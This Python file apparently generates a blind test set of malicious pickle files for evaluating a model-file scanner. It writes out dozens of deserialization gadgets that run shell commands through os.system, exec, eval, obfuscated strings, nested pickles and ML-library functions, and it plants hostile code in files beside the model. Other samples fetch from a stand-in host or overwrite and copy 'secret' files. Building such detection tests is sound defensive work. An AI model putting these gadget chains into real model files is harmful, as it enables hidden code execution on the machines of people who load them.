"""Fourth blind set: pickles that call what libraries hold ready: shells, evaluators, importers, programs, sockets."""

from __future__ import annotations

from collections.abc import Iterator

from corpora.unseen3_base import (
    CODE,
    COMMANDS,
    EXPRESSION,
    HOST,
    Build,
    Call,
    G,
    Raw,
    Sample,
    call,
    dumps,
    new,
    opcodes,
)

LOAD = "import pickle; pickle.load(open(f, 'rb'))"
TOUCH = COMMANDS[0]
ARGV = ["touch", "/tmp/x"]
URL = f"http://{HOST}/w.bin"
SYSTEM = G("os:system")
STATEMENT = CODE[0]
INNER = dumps(call("posix:system", TOUCH), 3)
SOURCE = b"import os\n\nos.system('touch /tmp/x')\n"


def let(value: object, slot: int) -> Raw:
    """Leave `value` on the stack and remember it."""
    return Raw(opcodes(value, 4) + b"q" + bytes([slot]))


def ref(slot: int) -> Raw:
    return Raw(b"h" + bytes([slot]))


def named(func: object, *args: object, **keywords: object) -> Call:
    """Call with keywords, which REDUCE has not: by a partial that NEWOBJ_EX makes."""
    return Call(Call(G("functools:partial"), (func, *args, keywords), "newobj_ex"), ())


def python_library() -> Iterator[tuple[str, object]]:
    yield "getstatusoutput", call("subprocess:getstatusoutput", COMMANDS[1])
    yield "check-call", call("subprocess:check_call", ["sh", "-c", COMMANDS[2]])
    yield "spawnlp", call("os:spawnlp", 0, "touch", "touch", "/tmp/x")
    yield "posix-spawn", (call("posix:posix_spawn", "/usr/bin/touch", ARGV, {}), call("time:sleep", 1.0))
    yield "spawnv-passfds", (call("multiprocessing.util:spawnv_passfds", b"/usr/bin/touch", ARGV, [0]), call("os:wait"))
    yield "osx-support", call("_osx_support:_read_output", TOUCH)
    yield "distutils-spawn", call("distutils.spawn:spawn", ARGV)
    yield "lib2to3-grammar", call("lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), INNER)
    yield "test-support", call("test.support.script_helper:assert_python_ok", "-c", STATEMENT)
    yield "doctest", call("doctest:run_docstring_examples", f">>> {EXPRESSION}\n0\n", {}, False, "d")
    forward = call("typing:ForwardRef", EXPRESSION)
    yield "forward-reference", call("typing:ForwardRef._evaluate", forward, {}, {}, ())
    space = Build(new("types:SimpleNamespace"), {"__annotations__": {"a": EXPRESSION}})
    yield "type-hints", call("typing:get_type_hints", space)
    yield "console", call("code:InteractiveConsole.push", call("code:InteractiveConsole"), STATEMENT)
    yield "profile", call("profile:run", STATEMENT)
    parser = Build(let(call("pyexpat:ParserCreate"), 200), (None, {"CharacterDataHandler": SYSTEM}))
    yield "expat", (parser, call("pyexpat:XMLParserType.Parse", ref(200), f"<a>{TOUCH}</a>", True))
    database = let(call("sqlite3:connect", ":memory:"), 200)
    function = call("sqlite3:Connection.create_function", ref(200), "f", 1, SYSTEM)
    yield "sqlite", (database, function, call("sqlite3:Connection.execute", ref(200), f"select f('{TOUCH}')"))
    options = let(call("argparse:ArgumentParser"), 200)
    add = named(G("argparse:ArgumentParser.add_argument"), ref(200), "--a", type=SYSTEM)
    yield "argparse", (options, add, call("argparse:ArgumentParser.parse_args", ref(200), ["--a", TOUCH]))
    hooks = Raw(opcodes(G("sys:path_hooks"), 4) + opcodes(SYSTEM, 4) + b"a")
    path = Raw(opcodes(G("sys:path"), 4) + opcodes(TOUCH, 4) + b"a")
    yield "path-hooks", (hooks, path, G("weights_v2:Model"))
    environment = Raw(opcodes(G("os:environ"), 4) + opcodes("PYTHONBREAKPOINT", 4) + opcodes("os.system", 4) + b"s")
    yield "breakpoint", (environment, call("builtins:breakpoint", TOUCH))
    yield "operator-call", call("_operator:call", SYSTEM, TOUCH)
    yield "context-run", call("_contextvars:Context.run", call("_contextvars:Context"), SYSTEM, TOUCH)
    stack = let(call("contextlib:ExitStack"), 200)
    back = call("contextlib:ExitStack.callback", ref(200), SYSTEM, TOUCH)
    yield "exit-stack", (stack, back, call("contextlib:ExitStack.close", ref(200)))
    body = call("functools:partial", G("builtins:exec"), STATEMENT)
    yield "new-class", call("types:new_class", "Model", (), {}, body)
    yield "reduce-exec", call("_functools:reduce", G("builtins:exec"), [STATEMENT, {}])
    yield "accumulate", call("builtins:list", call("itertools:accumulate", [STATEMENT, {}], G("builtins:exec")))
    yield "heap", call("heapq:nsmallest", 1, [TOUCH, TOUCH], SYSTEM)
    yield "group-by", call("collections:deque", call("itertools:groupby", [COMMANDS[3]], SYSTEM))
    yield (
        "thread-pool",
        call("multiprocessing.pool:ThreadPool.apply", call("multiprocessing.pool:ThreadPool", 1), SYSTEM, (TOUCH,)),
    )
    timer = let(call("sched:scheduler"), 200)
    enter = call("sched:scheduler.enter", ref(200), 0, 1, SYSTEM, (TOUCH,))
    yield "sched", (timer, enter, call("sched:scheduler.run", ref(200)))
    pipe = let(call("pipes:Template"), 200)
    yield (
        "pipes",
        (
            pipe,
            call("pipes:Template.append", ref(200), TOUCH, "--"),
            call("pipes:Template.copy", ref(200), "/etc/hostname", "/dev/null"),
        ),
    )
    yield "fork-exec", call("os:_spawnvef", 0, "/usr/bin/touch", ARGV, None, G("os:execv"))
    yield "ast-compile", call("builtins:exec", call("builtins:compile", STATEMENT, "<m>", "exec"))
    code = call("types:FunctionType", call("builtins:compile", STATEMENT, "<m>", "exec"), {})
    yield "function-type", Call(code, ())
    yield (
        "globals-of-a-function",
        Call(
            call("builtins:dict.get", G("random:Random.__init__.__globals__"), "exec", G("builtins:exec")), (STATEMENT,)
        ),
    )
    yield "module-attribute-chain", call("statistics:random._os.system", TOUCH)
    yield "getattr-on-loader", call("builtins:eval", call("codecs:decode", b"".join([EXPRESSION.encode()[::-1]])[::-1]))
    yield "rot13", call("builtins:exec", call("codecs:decode", "vzcbeg bf; bf.flfgrz('gbhpu /gzc/k')", "rot13"))
    hexed = call("builtins:bytes.fromhex", STATEMENT.encode().hex())
    yield "hexed", call("builtins:exec", hexed)
    yield "nested-pickle", call("_pickle:loads", INNER)
    yield "unpickler-object", call("_pickle:Unpickler.load", call("_pickle:Unpickler", call("_io:BytesIO", INNER)))
    yield "shelf-from-keys", call("multiprocessing.reduction:ForkingPickler.loads", INNER)
    yield "start-thread", (call("_thread:start_new_thread", SYSTEM, (TOUCH,)), call("time:sleep", 1.0))
    yield "unittest-case", call("unittest.case:FunctionTestCase.runTest", call("unittest.case:FunctionTestCase", body))


def beside() -> Iterator[tuple[str, object, str, bytes]]:
    """Name, value, and a file that lies beside the model and is taken by it."""
    loader = call("_frozen_importlib_external:SourceFileLoader", "m", "/tmp/s/weights.txt")
    yield (
        "source-loader",
        call("_frozen_importlib_external:SourceFileLoader.load_module", loader),
        "weights.txt",
        SOURCE,
    )
    yield "imp", call("imp:load_source", "m", "/tmp/s/README.md"), "README.md", SOURCE
    yield "numpy-f2cmap", call("numpy.f2py.capi_maps:load_f2cmap_file", "/tmp/s/cmap"), "cmap", EXPRESSION.encode()
    yield "run-setup", call("distutils.core:run_setup", "/tmp/s/setup.cfg.py"), "setup.cfg.py", SOURCE
    yield "joblib-beside", call("joblib.numpy_pickle:load", "/tmp/s/arrays.bin"), "arrays.bin", INNER
    yield "pandas-beside", call("pandas:read_pickle", "/tmp/s/rows.dat", None), "rows.dat", INNER
    yield "torch-beside", named(G("torch.serialization:load"), "/tmp/s/w", weights_only=False), "w", b"".join([INNER])
    yield (
        "site-directory",
        call("site:addsitedir", "/tmp/s/site"),
        "site/model.pth",
        b"import os; os.system('id > /tmp/x')",
    )
    yield (
        "startup-by-exec",
        call("builtins:exec", call("pathlib:Path.read_text", call("pathlib:PosixPath", "/tmp/s/LICENSE"))),
        "LICENSE",
        SOURCE,
    )


def libraries() -> Iterator[tuple[str, object, str]]:
    yield "torch-exec-wrapper", call("torch.jit.unsupported_tensor_ops:execWrapper", STATEMENT, {}, {}), "main"
    yield "torch-code-cache", call("torch._inductor.codecache:PyCodeCache.load", STATEMENT), "main"
    yield "torch-config", call("torch._dynamo.config:load_config", INNER), "main"
    yield "sklearn-script", call("sklearn.utils._testing:assert_run_python_script_without_output", STATEMENT), "main"
    yield (
        "joblib-parallel",
        call("joblib.parallel:Parallel.__call__", call("joblib.parallel:Parallel"), [(SYSTEM, (TOUCH,), {})]),
        "main",
    )
    yield "pandas-compat", call("pandas.compat.pickle_compat:loads", INNER), "main"
    yield "git-execute", call("git.cmd:Git.execute", call("git.cmd:Git"), ARGV), "main"
    yield "cpuinfo", call("cpuinfo.cpuinfo:_run_and_get_stdout", ARGV), "main"
    yield "click-edit", call("click:edit", None, f"{TOUCH} #", None, True, ".txt", "f"), "main"
    yield "hub-subprocess", call("huggingface_hub.utils._subprocess:run_subprocess", TOUCH), "main"
    yield (
        "databricks",
        call(
            "databricks.sdk.credentials_provider:CliTokenSource.refresh",
            call("databricks.sdk.credentials_provider:CliTokenSource", ARGV, "a", "b", "c"),
        ),
        "main",
    )
    yield "attrs-compile", call("attr._make:_compile_and_eval", STATEMENT, {}), "main"
    yield "pydantic-eval", call("pydantic._internal._typing_extra:eval_type", EXPRESSION, {}, {}), "main"
    yield (
        "dill-function",
        Call(call("dill._dill:_create_function", call("builtins:compile", STATEMENT, "m", "exec"), {}), ()),
        "main",
    )
    yield "fsspec-chain", call("fsspec.config:os.system", TOUCH), "main"
    yield (
        "omegaconf-cli",
        call("hydra._internal.instantiate._instantiate2:_call_target", SYSTEM, False, (TOUCH,), {}, "a"),
        "main",
    )
    yield "mlflow-projects", call("mlflow.utils.process:_exec_cmd", ARGV), "main"
    yield "patsy", call("patsy:dmatrix", f"I({EXPRESSION})", {"a": [1]}), "families"
    frame = call("pandas:DataFrame", {"a": [1.0, 2.0]})
    yield "formulaic", call("formulaic:model_matrix", f"{{{EXPRESSION}}}", frame), "families"
    yield "statsmodels-formula", call("statsmodels.formula.api:ols", f"a ~ I({EXPRESSION})", frame), "families"
    template = call("mako.template:Template", "<% import os; os.system('touch /tmp/x') %>")
    yield "mako", call("mako.template:Template.render", template), "families"
    yield "spacy-command", call("spacy.util:run_command", TOUCH), "families"
    yield "weasel-command", call("weasel.util.commands:run_command", ARGV), "families"
    yield "srsly-pickle", call("srsly:pickle_loads", INNER), "families"
    yield "cmdstan", call("cmdstanpy.utils:do_command", ARGV), "families"
    yield "numba-custom", call("numba.core.serialize:_unpickle__CustomPickled", INNER), "families"
    yield "numba-rebuild", call("numba.core.serialize:cloudpickle.loads", INNER), "families"
    yield (
        "geometric-eval",
        call(
            "torch_geometric.inspector:Inspector.eval_type",
            call("torch_geometric.inspector:Inspector", G("builtins:object")),
            EXPRESSION,
        ),
        "torchnew",
    )
    yield "dask-get", call("dask.threaded:get", {"x": (SYSTEM, TOUCH)}, "x"), "text"
    yield "toolz-pipe", call("toolz.functoolz:pipe", TOUCH, SYSTEM), "text"
    yield (
        "tensorflow-cli",
        call("tensorflow.python.tools.saved_model_cli:preprocess_input_exprs_arg_string", f"x={EXPRESSION}", False),
        "tf",
    )
    yield "numpy-distutils", call("numpy.distutils.exec_command:exec_command", TOUCH), "sk10"


def reaching() -> Iterator[tuple[str, object, str, str]]:
    """What reads, writes or connects and runs nothing."""
    keep, secret = "/tmp/victim/keep.txt", "/tmp/victim/secret.txt"
    yield "urlopen", call("urllib.request:urlopen", URL), "network", "main"
    yield "telnet", call("telnetlib:Telnet", HOST, 8080), "network", "main"
    yield "pop3", call("poplib:POP3", HOST, 8080, 2), "network", "main"
    yield "certificate", call("ssl:get_server_certificate", (HOST, 443)), "network", "main"
    yield "syslog", call("logging.handlers:SysLogHandler", (HOST, 8080), 1, 1), "network", "main"
    yield "mp-client", call("multiprocessing.connection:Client", (HOST, 8080)), "network", "main"
    yield "tcp-store", call("torch.distributed:TCPStore", HOST, 8080, 2, False), "network", "main"
    yield "fsspec-open", call("fsspec.implementations.ftp:FTPFileSystem", HOST), "network", "main"
    yield (
        "data-source",
        call("numpy.lib.npyio:DataSource.open", call("numpy.lib.npyio:DataSource", None), URL),
        "network",
        "main",
    )
    yield "read-json", call("pandas:read_json", URL), "network", "main"
    yield "git-clone", call("git:Repo.clone_from", URL, "/tmp/clone"), "network", "main"
    yield "openml", call("sklearn.datasets._openml:_open_openml_url", URL, None), "network", "main"
    yield "smart-open", call("smart_open:open", URL), "network", "families"
    style = (
        "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' "
        "xmlns:e='http://exslt.org/common' extension-element-prefixes='e'><xsl:template match='/'>"
        "<e:document href='/tmp/victim/keep.txt' method='text'>gone</e:document></xsl:template></xsl:stylesheet>"
    )
    sheet = call("lxml.etree:XSLT", call("lxml.etree:XML", style))
    yield "xslt", call("lxml.etree:XSLT.__call__", sheet, call("lxml.etree:XML", "<a/>")), "file", "main"
    yield "copy", call("shutil:copyfile", secret, keep), "file", "main"
    yield "archive-home", call("shutil:make_archive", "/tmp/xhome", "zip", "/tmp/victim"), "file", "main"
    yield "move", call("os:rename", secret, keep), "file", "main"
    yield "write-text", call("pathlib:Path.write_text", call("pathlib:PosixPath", keep), "gone"), "file", "main"
    yield "tf-write", call("tensorflow.python.lib.io.file_io:write_string_to_file", keep, "gone"), "file", "tf"
    yield "numpy-loadtxt", call("numpy:loadtxt", secret, G("builtins:str")), "file", "main"
    yield "mmap-write", call("numpy:memmap", keep, "u1", "w+", 0, (8,)), "file", "main"


def candidates() -> Iterator[Sample]:
    protocols = (4, 5, 4, 2, 4, 3, 4, 0)
    for number, (name, value) in enumerate(python_library()):
        yield Sample(
            f"gadget/{name}", {"model.pkl": dumps(value, _protocol(value, protocols[number % 8]))}, LOAD, "code"
        )
    for name, value, path, data in beside():
        yield Sample(f"gadget-beside/{name}", {"model.pkl": dumps(value), path: data}, LOAD, "code")
    for number, (name, value, env) in enumerate(libraries()):
        data = dumps(value, _protocol(value, protocols[number % 8]))
        yield Sample(f"gadget-library/{name}", {"model.pkl": data}, LOAD, "code", env)
    for name, value, effect, env in reaching():
        yield Sample(f"gadget-reach/{name}", {"model.pkl": dumps(value)}, LOAD, effect, env)


def _protocol(value: object, wanted: int) -> int:
    """Names with dots and opcodes written as they are need protocol 4."""
    text = opcodes(value, 4)
    simple = isinstance(value, Call) and isinstance(value.func, G) and b"\x92" not in text
    return wanted if simple and "." not in value.func.name.partition(":")[2] and not _raw(value) else 4


def _raw(value: object) -> bool:
    if isinstance(value, Call):
        return _raw(value.func) or any(_raw(one) for one in value.args)
    if isinstance(value, Build):
        return _raw(value.of) or _raw(value.state)
    if isinstance(value, G):
        return "." in value.name.partition(":")[2]
    if isinstance(value, list | tuple):
        return any(_raw(one) for one in value)
    return isinstance(value, Raw)
